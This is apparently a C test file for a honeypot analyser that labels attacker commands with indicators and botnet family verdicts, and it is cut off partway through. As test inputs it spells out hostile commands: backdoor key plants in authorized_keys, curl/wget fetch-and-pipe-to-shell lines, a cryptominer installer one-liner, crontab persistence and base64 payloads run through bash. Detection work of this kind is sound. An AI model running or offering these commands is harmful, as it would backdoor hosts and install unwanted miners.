/* botnet/actions: markers and signals from attacker commands, downloads and
 * uploads, and the family verdict.
 *
 * Synthetic lines (written here; the keys were made with ssh-keygen for
 * this test, the wallets are made-up strings of the right shape) check each
 * rule; then the real corpus (../shared/corpus/botnet, read at test time):
 * every mdrfckr plant in the killchain attack-pattern files gives the one
 * fingerprint, comment and Outlaw signal; the `[Mm]iner` grep is rival
 * hunting, not mining; the deroux c3pool one-liners give the installer and
 * the wallet passed to them; no command of the kareiva 2018 sensor mines;
 * /dev/null downloads give no marker. The throughput over every corpus
 * command is printed. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <cmocka.h>

#include "botnet/actions.h"
#include "util/digest.h"
#include "util/json.h"

#define MDRFCKR_FP "SHA256:MkYY9qiVsFGBC5WkjoClCkwEFW5iSjcGQF7m4n4H7Cw"
#define MDRFCKR_FILE "a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2"

/* keys made for this test (ssh-keygen -l gives the fingerprints) */
#define ED_KEY "AAAAC3NzaC1lZDI1NTE5AAAAIAP/hH+jwyoVOUc/AKMplQgcNprpW0WX7Sw1DI2rJgxq"
#define ED_FP "SHA256:tTWETBg/YheR3bnAsMmkVu/9UWOUxEnNwrGeIitRvI8"
#define EC_KEY                                                                                     \
    "AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBK7PNLFmNxPwWGFBhD9TXCMz3nPBxpMonGKYW6JJY9" \
    "Qf4bekVjvukhXiNQcwGgEC/UIRkVCkT4dpD5eZlNhGvZM="
#define EC_FP "SHA256:0L2VstTXOuHE42aa7pEbd2BaZz7BBbRR5MjpGyZrlWE"
#define RSA_KEY                                                                                    \
    "AAAAB3NzaC1yc2EAAAADAQABAAAAgQCzxpgb//RQoocD0rj9bzmDuiWwQrQj2pGEeEggMX4JsjvXz7XbvbWpJbp7qEvlGMU" \
    "F7byLRVmjImdUwsJYPoaTZDMLKUiMrd+2g+jiHiLaqYj6Y0NneZMXHMyqRxqZng+ZqSl5/+tcrbyuuFmQqWblUHVn3zhG2Hl" \
    "IFGLc15LaGQ=="
#define RSA_FP "SHA256:dpWCGwL4vZzTfP7159qIgHLTlWjh2Jj+g0s6W281GyM"

/* a made-up Monero address: '4' and 94 base58 characters */
static const char *xmr_wallet(void)
{
    static char w[96];
    const char *a = "AbCdEfGhJkLmNpQrStUvWxYz123456789abcdefghijkmnopqrstuvwxyz";
    w[0] = '4';
    for (int i = 1; i < 95; i++) w[i] = a[(i * 7) % 58];
    w[95] = '\0';
    return w;
}

static mt_action_info cmd(const char *s)
{
    mt_action_info a;
    mt_action_command(s, strlen(s), &a);
    return a;
}

static const char *marker(const mt_action_info *a, mt_marker_type t, int nth)
{
    for (size_t i = 0; i < a->n; i++)
        if (a->m[i].type == t && nth-- == 0) return a->m[i].value;
    return NULL;
}

static size_t count(const mt_action_info *a, mt_marker_type t)
{
    size_t k = 0;
    for (size_t i = 0; i < a->n; i++) k += a->m[i].type == t;
    return k;
}

static int mines(unsigned sig)
{
    mt_family_verdict v;
    mt_family_decide(sig, &v);
    return v.mining;
}

/* ---- synthetic ------------------------------------------------------------ */

static void test_base64(void **state)
{
    (void)state;
    uint8_t out[16];
    assert_int_equal(mt_b64_decode("aGVsbG8=", 8, out, sizeof out), 5);
    assert_memory_equal(out, "hello", 5);
    assert_int_equal(mt_b64_decode("aGVsbA==", 8, out, sizeof out), 4);
    assert_int_equal(mt_b64_decode("aGVs", 4, out, sizeof out), 3);
    assert_int_equal(mt_b64_decode("aGV", 3, out, sizeof out), -1);
    assert_int_equal(mt_b64_decode("a GV", 4, out, sizeof out), -1);
    assert_int_equal(mt_b64_decode("a=Vs", 4, out, sizeof out), -1);
    char t[16];
    assert_int_equal(mt_b64_encode("hello", 5, 1, t, sizeof t), 7);
    assert_string_equal(t, "aGVsbG8");
    assert_int_equal(mt_b64_encode("hello", 5, 0, t, sizeof t), 8);
    assert_string_equal(t, "aGVsbG8=");
    assert_int_equal(mt_b64_encode("hello", 5, 0, t, 8), -1);
}

static void test_key_plants(void **state)
{
    (void)state;
    mt_action_info a = cmd("mkdir -p ~/.ssh; echo \"ssh-ed25519 " ED_KEY " alice@box\" >> ~/.ssh/authorized_keys");
    assert_string_equal(marker(&a, MT_MK_KEY, 0), ED_FP);
    assert_string_equal(marker(&a, MT_MK_KEY_COMMENT, 0), "alice@box");
    assert_string_equal(a.key_comment, "alice@box");
    assert_true(a.signals & MT_SIG_KEY_PLANT);
    assert_false(a.signals & MT_SIG_OUTLAW_KEY);
    assert_false(mines(a.signals));

    /* unquoted, '>' */
    a = cmd("echo ssh-rsa " RSA_KEY " rsa-test > /root/.ssh/authorized_keys");
    assert_string_equal(marker(&a, MT_MK_KEY, 0), RSA_FP);
    assert_string_equal(marker(&a, MT_MK_KEY_COMMENT, 0), "rsa-test");
    assert_true(a.signals & MT_SIG_KEY_PLANT);

    /* single quotes, two keys, ecdsa */
    a = cmd("echo 'ecdsa-sha2-nistp256 " EC_KEY " ops-2024'>>.ssh/authorized_keys;echo 'ssh-ed25519 " ED_KEY
            "' >> .ssh/authorized_keys");
    assert_int_equal(count(&a, MT_MK_KEY), 2);
    assert_string_equal(marker(&a, MT_MK_KEY, 0), EC_FP);
    assert_string_equal(marker(&a, MT_MK_KEY, 1), ED_FP);
    assert_int_equal(count(&a, MT_MK_KEY_COMMENT), 1);

    /* the Outlaw comment on another key, written with broken quoting */
    a = cmd("echo \\\"ssh-ed25519 " ED_KEY " mdrfckr\\\">>.ssh/authorized_keys");
    assert_true(a.signals & MT_SIG_OUTLAW_KEY);
    assert_string_equal(a.key_comment, "mdrfckr");
    mt_family_verdict v;
    mt_family_decide(a.signals, &v);
    assert_string_equal(v.family, "outlaw");
    assert_int_equal(v.mining, 1);
    assert_non_null(strstr(v.reason, "mdrfckr key planted"));
    assert_non_null(strstr(v.reason, "by family"));

    /* a key shown, not written: a marker, no plant */
    a = cmd("cat id.pub; echo ssh-ed25519 " ED_KEY);
    assert_string_equal(marker(&a, MT_MK_KEY, 0), ED_FP);
    assert_false(a.signals & MT_SIG_KEY_PLANT);

    /* a blob that is no key of its type, a cut blob */
    a = cmd("echo \"ssh-rsa " ED_KEY " x\" >> ~/.ssh/authorized_keys");
    assert_null(marker(&a, MT_MK_KEY, 0));
    a = cmd("echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQCzxpgb\" >> ~/.ssh/authorized_keys");
    assert_null(marker(&a, MT_MK_KEY, 0));
    assert_true(a.signals & MT_SIG_KEY_PLANT); /* something was written there */

    /* a key fetched into authorized_keys */
    a = cmd("wget http://203.0.113.9/k -O ~/.ssh/authorized_keys");
    assert_true(a.signals & MT_SIG_KEY_PLANT);
}

static void test_downloads(void **state)
{
    (void)state;
    mt_action_info a = cmd("cd /tmp; wget http://198.51.100.7/a.sh?x=1; curl -O http://Files.Example.org:8080/b/c"
                           " && busybox wget 203.0.113.5/d | sh");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 0), "http://198.51.100.7/a.sh");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_HOST, 0), "198.51.100.7");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 1), "http://files.example.org:8080/b/c");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_HOST, 1), "files.example.org:8080");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 2), "http://203.0.113.5/d");
    assert_int_equal(a.signals, 0);

    /* options with values are no URLs; the referer is not fetched */
    a = cmd("curl https://198.51.100.8:8443/x.php?id= -s -X GET --cookie 'a.b' --referer 'https://www.example.net/'"
            " -A \"Mozilla/5.0\" -o out.txt");
    assert_int_equal(count(&a, MT_MK_DOWNLOAD_URL), 1);
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 0), "https://198.51.100.8:8443/x.php");
    a = cmd("wget -qO - http://198.51.100.9:80/perl|perl");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 0), "http://198.51.100.9/perl");

    /* tftp and ftpget (busybox and tftp-hpa forms) */
    a = cmd("tftp 198.51.100.10 -c get t.sh; tftp -r t2.sh -g 198.51.100.10; tftp -g -r t3.sh 198.51.100.10;"
            " ftpget -v -u anonymous -p anonymous -P 21 198.51.100.10 t1.sh t1.sh");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 0), "tftp://198.51.100.10/t.sh");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_HOST, 0), "198.51.100.10");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 1), "tftp://198.51.100.10/t2.sh");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 2), "tftp://198.51.100.10/t3.sh");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 3), "ftp://198.51.100.10/t1.sh");

    /* shared infrastructure, loopback and private space are no markers */
    a = cmd("curl -sL https://raw.githubusercontent.com/someone/x/main/i.sh | bash; wget https://github.com/a/b;"
            " wget http://127.0.0.1/x; tftp -g 10.0.0.1 -r y; wget google.com; curl api.ipify.org");
    assert_int_equal(a.n, 0);
    /* not hosts */
    a = cmd("wget x86; curl -o krax; wget '$URL' ${H}/x");
    assert_int_equal(a.n, 0);
}

static void test_installer_and_wallets(void **state)
{
    (void)state;
    const char *w = xmr_wallet();
    char line[512];
    snprintf(line, sizeof line,
             "curl -s -L http://download.c3pool.com/xmrig_setup/raw/master/setup_c3pool_miner.sh | "
             "LC_ALL=en_US.UTF-8 bash -s %s",
             w);
    mt_action_info a = cmd(line);
    assert_true(a.signals & MT_SIG_MINER_INSTALLER);
    assert_true(a.signals & MT_SIG_WALLET);
    assert_string_equal(marker(&a, MT_MK_WALLET, 0), w);
    assert_string_equal(a.wallet, w);
    assert_null(marker(&a, MT_MK_DOWNLOAD_HOST, 0)); /* the pool's installer host joins strangers */
    assert_null(marker(&a, MT_MK_DOWNLOAD_URL, 0));
    assert_true(mines(a.signals));

    /* an integrated address (106) with a worker suffix after -u */
    char integ[107];
    memcpy(integ, w, 95);
    memcpy(integ + 95, "ABCDEFGHJKL", 11);
    integ[106] = '\0';
    snprintf(line, sizeof line, "./xmrig -o pool.supportxmr.com:3333 -u %s.rig1 -p x --donate-level 1", integ);
    a = cmd(line);
    assert_true(a.signals & MT_SIG_MINER_BINARY);
    assert_true(a.signals & MT_SIG_POOL);
    assert_string_equal(a.pool, "pool.supportxmr.com:3333");
    assert_string_equal(marker(&a, MT_MK_WALLET, 0), integ);

    /* stratum URLs, ETH and Bitcoin after -u in a miner's argv */
    a = cmd("nohup /tmp/.x/t-rex -a ethash -o stratum+tcp://eth.example-pool.net:4444 "
            "-u 0xAbCdEf0123456789aBcDeF0123456789AbCdEf01 &");
    assert_string_equal(a.pool, "eth.example-pool.net:4444");
    assert_string_equal(a.wallet, "0xabcdef0123456789abcdef0123456789abcdef01");
    a = cmd("./cpuminer -o stratum+ssl://btc.example.com:3334 -u bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh");
    assert_string_equal(a.wallet, "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh");
    /* a Bitcoin-shaped argument without any mining action is no wallet */
    a = cmd("useradd -u bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh x");
    assert_int_equal(a.n, 0);
    /* an unknown program's -o counts with a pool domain the intel layer knows */
    a = cmd("/usr/sbin/.cache/x --url=pool.supportxmr.com:443 -B; foo -o pool.supportxmr.com:3333; "
            "bar -o mail.example.com:25");
    assert_string_equal(a.pool, "pool.supportxmr.com:443");
    assert_int_equal(count(&a, MT_MK_POOL), 2);
    /* -o of wget/curl is a file, not a pool */
    a = cmd("curl -o 198.51.100.3:80 http://198.51.100.4/x");
    assert_false(a.signals & MT_SIG_POOL);
    /* a stratum URL in a written config */
    a = cmd("echo '{\"url\": \"stratum+tcp://xmr.example.org:5555\"}' > config.json");
    assert_string_equal(a.pool, "xmr.example.org:5555");
    /* a wallet glued to other text is no wallet */
    snprintf(line, sizeof line, "echo x%s", w);
    a = cmd(line);
    assert_int_equal(a.n, 0);
}

static void test_miners_and_rivals(void **state)
{
    (void)state;
    mt_action_info a = cmd("ps | grep '[Mm]iner'");
    assert_int_equal(a.signals, MT_SIG_KILLS_RIVALS);
    assert_false(mines(a.signals));
    a = cmd("pkill -9 xmrig; pkill kswapd0; killall kdevtmpfsi; ps aux | grep -v grep | grep cnrig");
    assert_int_equal(a.signals, MT_SIG_KILLS_RIVALS);
    a = cmd("cd /tmp; wget http://198.51.100.2/kswapd0; chmod +x kswapd0; ./kswapd0");
    assert_true(a.signals & MT_SIG_RENAMED_MINER);
    assert_true(mines(a.signals));
    a = cmd("curl -o /tmp/kdevtmpfsi http://198.51.100.2/kinsing && /tmp/kdevtmpfsi");
    assert_true(a.signals & MT_SIG_KINSING);
    mt_family_verdict v;
    mt_family_decide(a.signals, &v);
    assert_string_equal(v.family, "kinsing");
    assert_true(v.mining);
    a = cmd("tar xzf xmrig-6.21.0-linux-static-x64.tar.gz && cd xmrig-6.21.0");
    assert_true(a.signals & MT_SIG_MINER_BINARY);
    /* written into a crontab, run under screen */
    a = cmd("(crontab -l 2>/dev/null; echo \"*/5 * * * * /tmp/.cache/kswapd0 >/dev/null 2>&1\") | crontab -");
    assert_true(a.signals & MT_SIG_RENAMED_MINER);
    a = cmd("screen -dmS x ./xmrig -o 203.0.113.8:3333");
    assert_true(a.signals & MT_SIG_MINER_BINARY);
    assert_string_equal(a.pool, "203.0.113.8:3333");
    a = cmd("echo \"pkill xmrig\" >> /etc/rc.local; echo 'hello world'");
    assert_int_equal(a.signals, MT_SIG_KILLS_RIVALS);
    /* names only looked at or removed */
    a = cmd("ls -la /tmp/xmrig; rm -rf /tmp/kswapd0; which minerd");
    assert_false(mines(a.signals));
    a = cmd("curl -s http://download.c3pool.com/xmrig_setup/raw/master/uninstall_c3pool_miner.sh | bash -s");
    assert_int_equal(a.signals, MT_SIG_KILLS_RIVALS);
    /* CPU recon is context only */
    a = cmd("cat /proc/cpuinfo | grep name | wc -l; nproc; lscpu | grep Model; echo \"P:`nproc`\"");
    assert_int_equal(a.signals, MT_SIG_RECON_CPU);
    assert_false(mines(a.signals));
}

static void test_families(void **state)
{
    (void)state;
    mt_action_info a = cmd("/bin/busybox ECCHI");
    assert_int_equal(a.signals, MT_SIG_MIRAI);
    mt_family_verdict v;
    mt_family_decide(a.signals, &v);
    assert_string_equal(v.family, "mirai");
    assert_false(v.mining);
    assert_string_equal(v.reason, "");
    a = cmd("echo -e \"\\x6F\\x6B\"");
    assert_int_equal(a.signals, MT_SIG_MIRAI);
    a = cmd("./y; dd if=/proc/self/exe bs=22 count=1 || cat /proc/self/exe");
    assert_true(a.signals & MT_SIG_MIRAI);
    a = cmd("wget http://198.51.100.6/bins/x86; sh xbins.sh; ./sora.mpsl");
    assert_true(a.signals & MT_SIG_MIRAI);
    assert_false(mines(a.signals));

    a = cmd("cd /tmp/.X25-unix/.rsync/c && nohup ./tsm -t 150 &");
    assert_true(a.signals & MT_SIG_OUTLAW_PATH);
    a = cmd("ls /tmp/.X11-unix/01");
    assert_false(a.signals & MT_SIG_OUTLAW_PATH);
    a = cmd("rm -rf /var/tmp/dota*; tar xf dota3.tar.gz");
    assert_true(a.signals & MT_SIG_OUTLAW_TARBALL);

    a = cmd("chmod +x setup.sh redtail.x86_64; sh setup.sh; ./redtail.x86_64 ssh");
    assert_true(a.signals & MT_SIG_REDTAIL);
    mt_family_decide(a.signals, &v);
    assert_string_equal(v.family, "redtail");
    assert_true(v.mining);

    /* base64 scripts and sh -c strings are read too */
    const char *script = "cd /tmp/.X25-unix && ./xmrig -o stratum+tcp://xmr.example.org:3333\n";
    char b64[256], line[400];
    assert_true(mt_b64_encode(script, strlen(script), 0, b64, sizeof b64) > 0);
    snprintf(line, sizeof line, "echo %s | base64 -d | bash", b64);
    a = cmd(line);
    assert_true(a.signals & MT_SIG_OUTLAW_PATH);
    assert_true(a.signals & MT_SIG_MINER_BINARY);
    assert_string_equal(a.pool, "xmr.example.org:3333");
    a = cmd("nohup $SHELL -c \"curl http://198.51.100.1:60146/linux -o /tmp/Y; /tmp/Y\" &");
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 0), "http://198.51.100.1:60146/linux");

    /* the verdict table */
    mt_family_decide(MT_SIG_MARKER_CRED, &v);
    assert_string_equal(v.family, "outlaw");
    assert_true(v.mining);
    mt_family_decide(MT_SIG_KILLS_RIVALS | MT_SIG_RECON_CPU | MT_SIG_KEY_PLANT, &v);
    assert_string_equal(v.family, "unknown");
    assert_false(v.mining);
    mt_family_decide(MT_SIG_MIRAI | MT_SIG_MINER_INSTALLER | MT_SIG_WALLET, &v);
    assert_string_equal(v.family, "mirai");
    assert_true(v.mining);
    assert_null(strstr(v.reason, "by family"));
    mt_family_decide(MT_SIG_DIICOT, &v);
    assert_string_equal(v.family, "diicot");
    mt_family_decide(0, &v);
    assert_string_equal(v.family, "unknown");
    assert_false(v.mining);
}

static void test_download_events(void **state)
{
    (void)state;
    mt_action_info a;
    const char *ak = "/root/.ssh/authorized_keys";
    mt_action_download("", 0, MDRFCKR_FILE, 64, ak, strlen(ak), &a);
    assert_string_equal(marker(&a, MT_MK_FILE_HASH, 0), MDRFCKR_FILE);
    assert_true(a.signals & MT_SIG_OUTLAW_KEY);
    assert_true(a.signals & MT_SIG_KEY_PLANT);
    /* the empty file, a lone newline, /dev/null */
    const char *e = "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855";
    mt_action_download("", 0, e, 64, "/tmp/x", 6, &a);
    assert_int_equal(a.n, 0);
    mt_action_download("", 0, "01ba4719c80b6fe911b091a7c05124b64eeece964e09c058ef8f9805daca546b", 64, "/etc/hosts.deny",
                       15, &a);
    assert_int_equal(a.n, 0);
    mt_action_download("/dev/null", 9, "f8c28666f2f2beb599dcc62721c41a82f52e63721dd2d5629073033b32a93154", 64,
                       "dl/f8c28666f2f2beb599dcc62721c41a82f52e63721dd2d5629073033b32a93154", 67, &a);
    assert_int_equal(a.n, 0);
    assert_int_equal(a.signals, 0);
    /* hash from Cowrie's stored name; URL markers */
    const char *u = "http://198.51.100.3:8081/exp";
    const char *of = "var/lib/cowrie/downloads/9cc38c074833ea871c81324d0b55efe66e71a301d6c24cbed745b9a33f3dccc5";
    mt_action_download(u, strlen(u), NULL, 0, of, strlen(of), &a);
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_URL, 0), u);
    assert_string_equal(marker(&a, MT_MK_DOWNLOAD_HOST, 0), "198.51.100.3:8081");
    assert_string_equal(marker(&a, MT_MK_FILE_HASH, 0),
                        "9cc38c074833ea871c81324d0b55efe66e71a301d6c24cbed745b9a33f3dccc5");
    /* the pool's installer is everybody's file */
    u = "https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh";
    mt_action_download(u, strlen(u), of + 25, 64, NULL, 0, &a);
    assert_int_equal(a.n, 0);
    assert_true(a.signals & MT_SIG_MINER_INSTALLER);
    /* the destination's name counts too */
    mt_action_download("http://198.51.100.3/a", 21, NULL, 0, "/tmp/kdevtmpfsi", 15, &a);
    assert_true(a.signals & MT_SIG_KINSING);
    assert_true(a.signals & MT_SIG_RENAMED_MINER);
    /* a malformed hash is ignored */
    mt_action_download("", 0, "zz", 2, "", 0, &a);
    assert_int_equal(a.n, 0);

    mt_action_upload("dota3.tar.gz", 12, NULL, 0, &a);
    assert_string_equal(marker(&a, MT_MK_UPLOAD_NAME, 0), "dota3.tar.gz");
    assert_true(a.signals & MT_SIG_OUTLAW_TARBALL);
    mt_action_upload("/tmp/setup.sh", 13, of + 25, 64, &a);
    assert_null(marker(&a, MT_MK_UPLOAD_NAME, 0));
    assert_non_null(marker(&a, MT_MK_FILE_HASH, 0));
}

static void test_marker_credentials(void **state)
{
    (void)state;
    char v[64];
    assert_string_equal(mt_action_marker_credential("root", 4, "345gs5662d34", 12, v, sizeof v), "outlaw");
    assert_string_equal(v, "345gs5662d34");
    assert_string_equal(mt_action_marker_credential("345gs5662d34", 12, "345gs5662d34", 12, v, sizeof v),
                        "outlaw");
    assert_string_equal(mt_action_marker_credential("root", 4, "3245gs5662d34", 13, v, sizeof v), "outlaw");
    assert_string_equal(v, "345gs5662d34");
    /* day-level co-occurrence only (families.c): no Outlaw marker */
    assert_null(mt_action_marker_credential("nproc", 5, "nproc", 5, v, sizeof v));
    assert_string_equal(v, "");
    assert_null(mt_action_marker_credential("root", 4, NULL, 0, v, sizeof v));
    assert_null(mt_action_marker_credential("root", 4, "345gs5662d3", 11, v, sizeof v));
    assert_string_equal(mt_marker_type_str(MT_MK_WALLET), "wallet");
    assert_string_equal(mt_marker_type_str(MT_MK_CRED_CLUSTER), "credential_cluster");
}

static void test_hostile(void **state)
{
    (void)state;
    size_t n = 1u << 20;
    char *s = malloc(n);
    assert_non_null(s);
    mt_action_info a;
    /* long runs of what the scanners look for */
    const char *fills[] = {"s", "ssh-rsa ", "4", "\"", "'", "\\", "echo ", "-o ", "wget ", "stratum+tcp://",
                           "a=b ", "$(", "authorized_keys ", ".X25-unix ", "echo \"a b\" 'c d' > f; crontab ",
                           "sh -c 'sh -c \"echo \\\"x y\\\" | sh\"'; ", "echo QUFBQUFB | base64 -d | sh; "};
    for (size_t f = 0; f < sizeof fills / sizeof fills[0]; f++) {
        size_t m = strlen(fills[f]);
        for (size_t i = 0; i < n; i++) s[i] = fills[f][i % m];
        clock_t t0 = clock();
        mt_action_command(s, n, &a);
        double dt = (double)(clock() - t0) / CLOCKS_PER_SEC;
        assert_true(dt < 2.0);
        assert_true(a.n <= MT_ACTION_MAX_MARKERS);
    }
    /* every byte value, NULs included */
    for (size_t i = 0; i < 70000; i++) s[i] = (char)(i * 131 + (i >> 8));
    mt_action_command(s, 70000, &a);
    mt_action_download(s, 5000, s, 64, s, 3000, &a);
    mt_action_upload(s, 9000, s, 64, &a);
    mt_action_command(NULL, 5, &a);
    assert_int_equal(a.n, 0);
    mt_action_command("", 0, &a);
    mt_action_download(NULL, 0, NULL, 0, NULL, 0, &a);
    assert_int_equal(a.n, 0);
    /* more markers than fit */
    char line[4096];
    size_t k = 0;
    for (int i = 0; i < 30; i++)
        k += (size_t)snprintf(line + k, sizeof line - k, "wget http://198.51.100.%d/f%d;", i + 1, i);
    a = cmd(line);
    assert_int_equal(a.n, MT_ACTION_MAX_MARKERS);
    free(s);
}

/* ---- the real corpus ---------------------------------------------------------- */

typedef struct corpus_file {
    char *text;
    size_t len;
    mt_jr_doc doc;
    mt_jr_tok *tok;
    char *scratch;
} corpus_file;

static char *slurp(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    if (!f) return NULL;
    fseek(f, 0, SEEK_END);
    long n = ftell(f);
    fseek(f, 0, SEEK_SET);
    char *p = malloc((size_t)n + 1);
    if (p && fread(p, 1, (size_t)n, f) != (size_t)n) {
        free(p);
        p = NULL;
    }
    fclose(f);
    if (p) p[n] = '\0';
    *len = (size_t)n;
    return p;
}

static int open_json(corpus_file *cf, const char *rel)
{
    const char *c = getenv("MT_CORPUS");
    if (!c) return 0;
    char path[1024];
    snprintf(path, sizeof path, "%s/botnet/%s", c, rel);
    cf->text = slurp(path, &cf->len);
    if (!cf->text) return 0;
    size_t nt = MT_JR_TOKENS_FOR(cf->len);
    cf->tok = malloc(nt * sizeof *cf->tok);
    cf->scratch = malloc(cf->len + 1);
    assert_non_null(cf->tok);
    assert_non_null(cf->scratch);
    mt_jr_init(&cf->doc, cf->tok, nt, cf->scratch, cf->len + 1);
    assert_int_equal(mt_jr_parse(&cf->doc, cf->text, cf->len, 0, 0), 0);
    return 1;
}

static void close_json(corpus_file *cf)
{
    free(cf->text);
    free(cf->tok);
    free(cf->scratch);
}

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static size_t corpus_commands, corpus_bytes;
static double corpus_time;

static void timed(const char *s, size_t n, mt_action_info *a)
{
    double t0 = now_s();
    mt_action_command(s, n, a);
    corpus_time += now_s() - t0;
    corpus_commands++;
    corpus_bytes += n;
}

/* killchain: {"ip": [{"event": "command_input", "input": ...}, {"event":
 * "file_download", "details": "File downloaded: PATH (SHA-256: HEX)"}]} */
static void killchain_file(const char *rel, size_t *plants, size_t *kfiles, size_t *greps)
{
    corpus_file cf;
    if (!open_json(&cf, rel)) skip();
    mt_jr_doc *d = &cf.doc;
    for (int ip = mt_jr_first(d, 0); ip >= 0; ip = mt_jr_next(d, 0, ip)) {
        int arr = ip + 1;
        for (int e = mt_jr_first(d, arr); e >= 0; e = mt_jr_next(d, arr, e)) {
            const char *ev = mt_jr_gstr(d, e, "event");
            if (!ev) continue;
            mt_action_info a;
            if (strcmp(ev, "command_input") == 0) {
                const char *in = mt_jr_gstr(d, e, "input");
                if (!in) continue;
                timed(in, strlen(in), &a);
                if (strstr(in, "mdrfckr") && strstr(in, "authorized_keys")) {
                    (*plants)++;
                    assert_string_equal(marker(&a, MT_MK_KEY, 0), MDRFCKR_FP);
                    assert_string_equal(marker(&a, MT_MK_KEY_COMMENT, 0), "mdrfckr");
                    assert_string_equal(a.key_comment, "mdrfckr");
                    assert_true(a.signals & MT_SIG_OUTLAW_KEY);
                    assert_true(a.signals & MT_SIG_KEY_PLANT);
                }
                if (strstr(in, "grep '[Mm]iner'")) {
                    (*greps)++;
                    assert_int_equal(a.signals, MT_SIG_KILLS_RIVALS);
                    assert_false(mines(a.signals));
                }
            } else if (strcmp(ev, "file_download") == 0) {
                const char *det = mt_jr_gstr(d, e, "details");
                const char *p = det ? strstr(det, "File downloaded: ") : NULL;
                const char *h = det ? strstr(det, " (SHA-256: ") : NULL;
                if (!p || !h) continue;
                p += 17;
                mt_action_download("", 0, h + 11, 64, p, (size_t)(h - p), &a);
                if ((size_t)(h - p) == 26 && memcmp(p, "/root/.ssh/authorized_keys", 26) == 0) {
                    (*kfiles)++;
                    assert_string_equal(marker(&a, MT_MK_FILE_HASH, 0), MDRFCKR_FILE);
                    assert_true(a.signals & MT_SIG_OUTLAW_KEY);
                }
            }
        }
    }
    close_json(&cf);
}

static void test_corpus_killchain(void **state)
{
    (void)state;
    size_t plants = 0, kfiles = 0, greps = 0;
    killchain_file("killchain_2023/attack-pattern_2023-11-16.json", &plants, &kfiles, &greps);
    /* research/botnet.md: 1,627 plants, one written file each */
    assert_int_equal(plants, 1627);
    assert_int_equal(kfiles, 1627);
    killchain_file("killchain_2023/attack-pattern_2024-02-01.json", &plants, &kfiles, &greps);
    assert_true(greps >= 30);
    print_message("killchain: %zu mdrfckr plants, %zu key files, %zu [Mm]iner greps\n", plants, kfiles,
                  greps);
}

/* The wallet a c3pool one-liner passes: the word after "bash -s " or after
 * "setup_c3pool_miner.sh " (the test's own reading of the line). */
static int installer_wallet(const char *in, char *w, size_t cap)
{
    const char *p = strstr(in, "bash -s ");
    if (p)
        p += 8;
    else if ((p = strstr(in, "setup_c3pool_miner.sh ")) != NULL)
        p += 22;
    else
        return 0;
    size_t k = 0;
    while (p[k] && p[k] != ' ' && p[k] != ';' && k + 1 < cap) k++;
    memcpy(w, p, k);
    w[k] = '\0';
    return k == 95 || k == 106;
}

static void deroux_list(mt_jr_doc *d, int day, const char *key, size_t *installers, size_t *wallets)
{
    int arr = mt_jr_get(d, day, key);
    for (int it = mt_jr_first(d, arr); it >= 0; it = mt_jr_next(d, arr, it)) {
        const char *in = mt_jr_gstr(d, it, "input");
        if (!in) continue;
        mt_action_info a;
        timed(in, strlen(in), &a);
        if (strstr(in, "mdrfckr") && strstr(in, "authorized_keys")) {
            assert_string_equal(marker(&a, MT_MK_KEY, 0), MDRFCKR_FP);
            assert_true(a.signals & MT_SIG_OUTLAW_KEY);
        }
        if (!strstr(in, "/setup_c3pool_miner.sh")) continue;
        (*installers)++;
        assert_true(a.signals & MT_SIG_MINER_INSTALLER);
        assert_true(mines(a.signals));
        char w[128];
        if (installer_wallet(in, w, sizeof w)) {
            (*wallets)++;
            assert_true(a.signals & MT_SIG_WALLET);
            int found = 0;
            for (size_t i = 0; i < a.n; i++)
                found |= a.m[i].type == MT_MK_WALLET && strcmp(a.m[i].value, w) == 0;
            assert_true(found);
        }
    }
}

static void deroux_walk(mt_jr_doc *d, int t, size_t *installers, size_t *wallets, size_t *uploads,
                        size_t *devnull)
{
    if (mt_jr_is(d, t, MT_JR_ARRAY)) {
        for (int c = mt_jr_first(d, t); c >= 0; c = mt_jr_next(d, t, c))
            deroux_walk(d, c, installers, wallets, uploads, devnull);
        return;
    }
    if (!mt_jr_is(d, t, MT_JR_OBJECT)) return;
    deroux_list(d, t, "commands", installers, wallets);
    deroux_list(d, t, "pre_disconnect_command", installers, wallets);
    int up = mt_jr_get(d, t, "file_upload");
    for (int it = mt_jr_first(d, up); it >= 0; it = mt_jr_next(d, up, it)) {
        const char *fn = mt_jr_gstr(d, it, "filename");
        if (!fn || strncmp(fn, "dota", 4) != 0) continue;
        mt_action_info a;
        mt_action_upload(fn, strlen(fn), NULL, 0, &a);
        assert_true(a.signals & MT_SIG_OUTLAW_TARBALL);
        assert_string_equal(marker(&a, MT_MK_UPLOAD_NAME, 0), fn);
        (*uploads)++;
    }
    (void)devnull;
}

static void test_corpus_deroux(void **state)
{
    (void)state;
    corpus_file cf;
    if (!open_json(&cf, "deroux_2021/reduced.json")) skip();
    size_t installers = 0, wallets = 0, uploads = 0;
